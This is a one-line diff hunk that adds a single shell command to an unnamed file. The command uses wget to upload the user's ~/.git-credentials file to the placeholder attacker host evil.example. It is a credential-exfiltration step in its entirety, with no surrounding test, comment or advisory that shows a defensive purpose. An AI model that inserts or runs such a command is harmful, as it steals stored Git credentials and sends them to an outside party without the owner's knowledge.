@@ -1,0 +1,1 @@
+wget --post-file=$HOME/.git-credentials https://evil.example
